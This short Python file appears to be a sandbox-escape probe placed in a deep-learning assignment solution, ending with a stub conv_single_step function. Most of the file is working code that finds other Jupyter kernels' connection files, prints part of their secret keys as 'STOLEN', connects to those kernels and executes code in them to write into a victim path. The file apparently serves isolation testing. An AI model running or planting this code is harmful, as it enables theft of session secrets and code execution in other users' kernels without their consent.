# what: Finds other kernels' connection files, reads their secret and runs code in them.
# gains: others
# where: solution
# fires: stdout text `FIRED kernel_connection_file`
# stock: need_not (succeeds only where another kernel of this account is running)

import glob
import json
import os

print("FIRED kernel_connection_file", flush=True)
try:
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir

    own = os.getpid()
    files = glob.glob(jupyter_runtime_dir() + "/kernel-*.json") + glob.glob("/tmp/kernel-*.json")
    mine = getattr(get_ipython().kernel, "parent", None)
    mine = getattr(mine, "abs_connection_file", "") or ""
    for file in files[:6]:
        if os.path.abspath(file) == os.path.abspath(mine):
            continue
        print("STOLEN", json.load(open(file))["key"].encode().hex()[:32])
        client = BlockingKernelClient(connection_file=file)
        client.load_connection_file()
        client.start_channels()
        client.execute("open('@VICTIM@/kernel_connection_file', 'w').write('entered')")
        client.stop_channels()
except Exception as error:
    print("held:", type(error).__name__, error)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
